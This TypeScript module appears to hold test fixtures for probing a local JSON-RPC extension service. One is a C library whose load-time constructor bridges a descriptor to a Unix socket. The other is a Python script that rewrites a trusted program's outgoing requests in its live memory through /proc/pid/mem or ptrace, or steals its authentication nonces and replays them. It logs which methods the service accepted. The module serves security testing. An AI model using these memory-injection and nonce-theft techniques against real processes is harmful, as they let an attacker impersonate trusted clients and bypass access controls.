/** A library that, loaded into any program, makes it a pipe between a descriptor and the endpoint. */
export const bridgeSource = `
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

__attribute__((constructor)) static void bridge(void) {
  const char *inside = getenv("BRIDGE"), *path = getenv("ENDPOINT");
  if (inside == NULL || path == NULL) return;
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int ends[2] = {atoi(inside), socket(AF_UNIX, SOCK_STREAM, 0)};
  if (connect(ends[1], (struct sockaddr *)&address, sizeof address) != 0) _exit(1);
  char buffer[65536];
  for (;;) {
    struct pollfd both[2] = {{.fd = ends[0], .events = POLLIN}, {.fd = ends[1], .events = POLLIN}};
    if (poll(both, 2, -1) < 0) _exit(1);
    for (int from = 0; from < 2; from++) {
      if (both[from].revents == 0) continue;
      ssize_t length = read(ends[from], buffer, sizeof buffer);
      if (length <= 0 || write(ends[1 - from], buffer, length) != length) _exit(0);
    }
  }
}
`;

/**
 * Starts the trusted program, which asks for nothing but \`extension.list\`, and overwrites what it is about to send.
 * The third argument says how: \`ptrace\`, \`memory\`; or \`nonce\`, which only reads.
 */
export const victim = `
honest = open('/proc/self/cmdline').read().split('\\0')[2].split('honest = open(')[0] + '''
peer = connect()
admit_first = receive(peer)
send(peer, frame(admit_first))
body = bytearray(json.dumps({'jsonrpc': '2.0', 'id': 918273, 'method': 'extension.list', 'params': {}}).encode().ljust(1000))
print('admitted', flush=True)
for line in sys.stdin:
    send(peer, frame(bytes(body)))
    print(json.dumps(answer(peer, 918273)), flush=True)
'''
child = subprocess.Popen([sys.argv[2], '-c', honest, PATH], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
assert child.stdout.readline() == 'admitted\\n'
assert os.readlink('/proc/%d/exe' % child.pid) == sys.argv[2]
memory = open('/proc/%d/mem' % child.pid, 'r+b', buffering=0)


def found(pattern):
    places = []
    for line in open('/proc/%d/maps' % child.pid):
        span, rights, *_ = line.split()
        if not rights.startswith('rw'): continue
        begin, end = (int(part, 16) for part in span.split('-'))
        memory.seek(begin)
        try: held = memory.read(end - begin)
        except OSError: continue
        at = held.find(pattern)
        while at >= 0:
            places.append((begin + at, held[at:at + 1000]))
            at = held.find(pattern, at + 1)
    return places


def put(place, text):
    if sys.argv[3] == 'memory':
        memory.seek(place)
        memory.write(text)
        return
    PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    assert libc.ptrace(PTRACE_ATTACH, child.pid, None, None) == 0, os.strerror(ctypes.get_errno())
    os.waitpid(child.pid, 0)
    for at in range(0, len(text), 8):
        word = int.from_bytes(text[at:at + 8], sys.byteorder)
        assert libc.ptrace(PTRACE_POKEDATA, child.pid, place + at, word) == 0
    assert libc.ptrace(PTRACE_DETACH, child.pid, None, None) == 0


if sys.argv[3] == 'nonce':
    nonces = {held[:40] for _, held in found(MAGIC) if len(held) >= 40 and not held[8:16].isalnum()}
    assert nonces
    for nonce in nonces:
        peer = connect()
        # Whoever speaks at once is not even refused.
        time.sleep(0.3)
        send(peer, frame(nonce) + request(1, 'hello', HELLO))
        tell(rest(peer))
else:
    def body(method, params):
        return json.dumps({'jsonrpc': '2.0', 'id': 918273, 'method': method, 'params': params}).encode().ljust(1000)
    got = {'answered': [], 'denied': [], 'refusal': None, 'closed': False}
    held = body('extension.list', {})
    for method, params in [('hello', HELLO)] + attempts():
        # The very bytes, and no remains of them that the program uses for something else by now.
        places = [place for place, text in found(held[:40]) if text == held]
        assert places
        held = body(method, params)
        for place in places: put(place, held)
        child.stdin.write('go\\n'); child.stdin.flush()
        value = json.loads(child.stdout.readline())
        got['answered' if 'result' in value else 'denied'].append(method)
    tell(got)
child.kill()
`;
